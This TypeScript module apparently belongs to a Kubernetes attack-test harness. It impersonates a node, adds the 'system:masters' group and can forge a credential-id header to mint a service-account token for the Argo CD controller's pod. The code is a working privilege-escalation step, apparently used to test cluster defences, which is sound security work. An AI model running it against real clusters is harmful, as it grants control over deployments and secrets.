/** Asks for a token of the GitOps controller in a node's name, as whoever may impersonate nodes can. */
import type { ApiAnswer } from '../cluster/api-client.ts';
import { ARGOCD } from '../cluster/service-account-user.ts';
import { NODE_NAME } from '../cluster/users.ts';
import type { AttackGround } from './attack.ts';

/** Forges the credential of whoever is impersonated. */
export const CREDENTIAL_HEADER = 'impersonate-extra-authentication.kubernetes.io%2fcredential-id';

/** The kubelet says how its node is, as it does all the time: its credential is seen. */
export async function showNode({ cluster }: AttackGround): Promise<void> {
  const path = `/api/v1/nodes/${NODE_NAME}/status`;
  const annotations = { 'holdfast.test/seen': new Date().toISOString() };
  const { code } = await cluster.request('kubelet', path, {
    method: 'PATCH',
    body: { metadata: { annotations } },
  });
  if (code !== 200) throw new Error(`The node cannot write its status: ${code}`);
}

/** A token bound to the controller's running pod, by the pod's own uid. */
export async function mintAsNode(
  { cluster, request }: AttackGround,
  node: string,
  credentialId?: string,
): Promise<ApiAnswer> {
  const { namespace, serviceAccount, pod: name } = ARGOCD;
  const pod = await cluster.request('root', `/api/v1/namespaces/${namespace}/pods/${name}`);
  const boundObjectRef = { kind: 'Pod', apiVersion: 'v1', name, uid: pod.body.metadata?.uid };
  return await request(`/api/v1/namespaces/${namespace}/serviceaccounts/${serviceAccount}/token`, {
    method: 'POST',
    body: {
      apiVersion: 'authentication.k8s.io/v1',
      kind: 'TokenRequest',
      spec: { boundObjectRef },
    },
    headers: {
      'impersonate-user': `system:node:${node}`,
      'impersonate-group': ['system:nodes', 'system:masters'],
      ...(credentialId !== undefined && { [CREDENTIAL_HEADER]: credentialId }),
    },
  });
}
